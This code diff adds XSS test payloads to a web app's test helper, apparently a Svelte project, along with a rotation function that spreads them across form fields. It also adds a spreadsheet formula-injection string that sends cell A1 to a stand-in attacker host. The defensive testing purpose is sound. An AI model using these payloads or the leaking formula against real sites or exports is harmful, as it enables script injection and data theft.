@@ -80,3 +80,53 @@ export function payloadBatches(max: number): string[] {
 }
 
 export const ALL_PAYLOADS = XSS_PAYLOADS.join(' ');
+
+/**
+ * The payloads most likely to break out of where text is put (a tag, an attribute, a textarea, an inline
+ * script, a Svelte template): every field that gets a share of the corpus gets these first.
+ */
+export const NASTIEST: readonly string[] = [
+	'<script>alert(1)</script>',
+	'<img src=x onerror=alert(1)>',
+	'"><script>alert(31)</script>',
+	'</textarea><script>alert(36)</script>',
+	'</script><script>alert(37)</script>',
+	'{@html "<img src=x onerror=alert(52)>"}'
+];
+
+/** A spreadsheet formula; in CSV and XLSX exports it must stay text (the formula guard adds an apostrophe). */
+export const FORMULA = '=HYPERLINK("https://angripare.example/?d="&A1,"Klicka")';
+
+/**
+ * Hands out the corpus in rotation, one share per field: as many of the nastiest payloads as fit first (all
+ * of them in a long field), then as many of the others as fit in the field's limit, each share starting
+ * where the last stopped, so that all payloads are rendered somewhere after a few fields. `unused()` tells
+ * which have not been handed out yet.
+ */
+export function payloadRotation() {
+	const rest = XSS_PAYLOADS.filter((p) => !NASTIEST.includes(p));
+	const used = new Set<string>();
+	let nextNasty = 0;
+	let next = 0;
+	const take = (list: readonly string[], from: number, parts: string[], max: number) => {
+		let taken = 0;
+		while (taken < list.length) {
+			const p = list[(from + taken) % list.length];
+			if ([...parts, p].join(' ').length > max) break;
+			parts.push(p);
+			used.add(p);
+			taken++;
+		}
+		return taken;
+	};
+	return {
+		share(max: number, prefix = ''): string {
+			const parts = prefix ? [prefix] : [];
+			nextNasty += take(NASTIEST, nextNasty, parts, max);
+			next += take(rest, next, parts, max);
+			if (parts.length === (prefix ? 1 : 0)) throw new Error(`no payload fits in ${max} characters`);
+			return parts.join(' ');
+		},
+		unused: () => XSS_PAYLOADS.filter((p) => !used.has(p))
+	};
+}
